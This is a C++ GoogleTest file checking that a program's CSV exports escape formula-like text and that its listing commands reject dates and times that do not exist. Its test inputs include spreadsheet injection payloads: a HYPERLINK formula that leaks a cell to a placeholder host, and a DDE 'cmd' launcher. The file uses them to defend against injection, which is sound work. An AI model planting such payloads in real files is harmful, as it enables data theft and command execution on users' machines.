// Text that comes from outside, read or written: the CSV of the journal's
// export and of the recording (the line overview's and pmctl watch's too)
// as a spreadsheet reads it back, and the times a listing is given.
#include <gtest/gtest.h>

#include <cstdlib>
#include <ctime>
#include <optional>
#include <string>
#include <vector>

#include "CommandLine.h"
#include "CsvField.h"
#include "CsvRecorder.h"
#include "EntryText.h"
#include "JournalCommands.h"

namespace {

struct Cell {
  std::string text;  // as a spreadsheet takes it, quotes undone
  bool quoted = false;
};

// One line of semicolon-separated fields as a spreadsheet splits it.
std::vector<Cell> ReadCsvLine(const std::string& line) {
  std::vector<Cell> cells(1);
  bool inQuotes = false;
  for (std::size_t i = 0; i < line.size(); ++i) {
    const char c = line[i];
    if (inQuotes) {
      if (c == '"' && i + 1 < line.size() && line[i + 1] == '"') {
        cells.back().text += '"';
        ++i;
      } else if (c == '"') {
        inQuotes = false;
      } else {
        cells.back().text += c;
      }
    } else if (c == '"' && cells.back().text.empty()) {
      inQuotes = cells.back().quoted = true;
    } else if (c == ';') {
      cells.emplace_back();
    } else {
      cells.back().text += c;
    }
  }
  return cells;
}

bool BeginsAsFormula(const std::string& text) {
  return !text.empty() && std::string("=+-@\t\r").find(text.front()) != std::string::npos;
}

// What a text cell must read back as: the text itself, or, when it would
// begin a formula, quoted text after an apostrophe.
void ExpectText(const Cell& cell, const std::string& text) {
  if (BeginsAsFormula(text)) {
    EXPECT_TRUE(cell.quoted);
    EXPECT_EQ(cell.text, "'" + text);
  } else {
    EXPECT_EQ(cell.text, text);
  }
}

const std::string kHostile[] = {
    "=HYPERLINK(\"http://example.invalid/?\"&A1;\"Подробнее\")",
    "+7 999 000-11-22",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1;2\r\n=3",
    "-12,5",  // a number where text belongs is still text
    "/dev/ttyUSB0",
    "ЗЕТ-ТП; \"старый\"",
    "a=b",
    "",
};

}  // namespace

// Every text field of every CSV the program writes reads back as the text
// it holds, never as a formula; each line keeps its header's columns.
TEST(CsvCells, TextNeverReadsAsAFormula) {
  for (const std::string& h : kHostile) {
    SCOPED_TRACE(h);
    const std::vector<Cell> alone = ReadCsvLine(pmset::CsvTextField(h));
    ASSERT_EQ(alone.size(), 1u);
    ExpectText(alone[0], h);

    pmjournal::Entry e;
    e.id = 12;
    e.address = 7;
    e.at = "2026-12-09T03:00:00+03:00";
    e.port = e.identification = e.operation = e.user = e.host = e.program = e.detail = h;
    e.before = {0x10, 0x20};
    const std::vector<Cell> row = ReadCsvLine(pmjournal::CsvRow(e));
    ASSERT_EQ(row.size(), ReadCsvLine(pmjournal::CsvHeader()).size());
    EXPECT_EQ(row[0].text, "12");
    EXPECT_EQ(row[1].text, e.at);
    ExpectText(row[2], h);  // port
    EXPECT_EQ(row[3].text, "7");
    for (const std::size_t column : {4u, 5u, 8u, 9u, 10u, 11u}) ExpectText(row[column], h);
    EXPECT_EQ(row[12].text, "10 20");

    pmtrend::Reading r;
    r.source.model = 101;
    r.unit = h;
    r.valueText = "1,0";
    r.percentText = "2,0";
    const std::vector<Cell> rec = ReadCsvLine(pmtrend::CsvRow(r));
    ASSERT_EQ(rec.size(), ReadCsvLine(pmtrend::CsvHeader()).size());
    ExpectText(rec[4], h);
  }
}

// A measured value is a number a spreadsheet computes with, negative or
// not; only what is no number is made text.
TEST(CsvCells, MeasuredValuesStayNumbers) {
  struct Case {
    std::string value;
    std::string written;
  };
  const Case cases[] = {
      {"-12,5", "-12,5"},     {"251,37", "251,37"},   {"0", "0"},         {"-0,001", "-0,001"},
      {"-1,5E+03", "-1,5E+03"}, {"2E-05", "2E-05"},   {"", ""},           {"NAN", "NAN"},
      {"-INF", "\"'-INF\""},  {"-", "\"'-\""},        {"-1,", "\"'-1,\""}, {"=1+1", "\"'=1+1\""},
      {"-1;2", "\"'-1;2\""},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.value);
    EXPECT_EQ(pmset::CsvNumberField(c.value), c.written);
    pmtrend::Reading r;
    r.source.model = 102;
    r.unit = "°C";
    r.valueText = r.percentText = c.value;
    r.coldJunctionText = c.value;
    const std::string row = pmtrend::CsvRow(r);
    const std::vector<Cell> cells = ReadCsvLine(row);
    ASSERT_EQ(cells.size(), 12u) << row;
    for (const std::size_t column : {3u, 5u, 11u}) {
      EXPECT_EQ(cells[column].quoted, c.written != c.value);
      EXPECT_EQ(cells[column].text, c.written == c.value ? c.value : "'" + c.value);
    }
  }
}

// --since and --until: a date or time that is not on the calendar, or not
// on the clock because the clocks skip it, is refused; mktime alone would
// move it to another day or hour.
TEST(ListingTimes, OnlyDatesAndTimesThatExist) {
  const char* const zone = std::getenv("TZ");
  const std::optional<std::string> was = zone ? std::optional<std::string>(zone) : std::nullopt;
  struct Case {
    const char* tz;
    std::string text;
    std::optional<std::time_t> utc;  // the moment it names; none when refused
  };
  const Case cases[] = {
      {"Europe/Berlin", "2026-11-30", 1795993200},           // 2026-11-29T23:00Z
      {"Europe/Berlin", "2026-11-31", {}},
      {"Europe/Berlin", "2026-04-31", {}},
      {"Europe/Berlin", "2026-02-29", {}},
      {"Europe/Berlin", "2028-02-29", 1835391600},           // leap year
      {"Europe/Berlin", "2100-02-29", {}},                   // not a leap year
      {"Europe/Berlin", "2000-02-29", 951778800},            // a leap year after all
      {"Europe/Berlin", "2026-12-31T23:59:59", 1798757999},
      {"Europe/Berlin", "2026-13-01", {}},
      {"Europe/Berlin", "2026-00-10", {}},
      {"Europe/Berlin", "2026-12-00", {}},
      {"Europe/Berlin", "2026-12-09T24:00", {}},
      {"Europe/Berlin", "2026-12-09T10:60", {}},
      {"Europe/Berlin", "2026-12-09T10:30:60", {}},
      {"Europe/Berlin", "2026-12-09 10:30", {}},
      {"Europe/Berlin", "2026-1-09", {}},
      {"Europe/Berlin", "2026- 1-09", {}},
      {"Europe/Berlin", "+026-01-09", {}},
      {"Europe/Berlin", "2026-12-09T10:30:", {}},
      {"Europe/Berlin", "", {}},
      {"Europe/Berlin", "2026-03-29T02:30", {}},             // the clocks go from 2:00 to 3:00
      {"Europe/Berlin", "2026-03-29T03:00", 1774746000},
      {"Europe/Berlin", "2026-03-29", 1774738800},
      {"America/Santiago", "2026-09-06T00:30", {}},          // from midnight to 1:00
      {"America/Santiago", "2026-09-06", 1788667200},        // the day begins at 1:00
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(std::string(c.tz) + " " + c.text);
    ::setenv("TZ", c.tz, 1);
    ::tzset();
    const std::optional<std::int64_t> ms = pmcli::ParseLocalTime(c.text);
    ASSERT_EQ(ms.has_value(), c.utc.has_value());
    if (ms) {
      EXPECT_EQ(*ms, static_cast<std::int64_t>(*c.utc) * 1000);
    }
  }
  // A time the clocks pass twice is either of them.
  ::setenv("TZ", "Europe/Berlin", 1);
  ::tzset();
  const auto twice = pmcli::ParseLocalTime("2026-10-25T02:30");
  ASSERT_TRUE(twice);
  EXPECT_TRUE(*twice == 1792888200000 || *twice == 1792891800000) << *twice;

  if (was)
    ::setenv("TZ", was->c_str(), 1);
  else
    ::unsetenv("TZ");
  ::tzset();
}
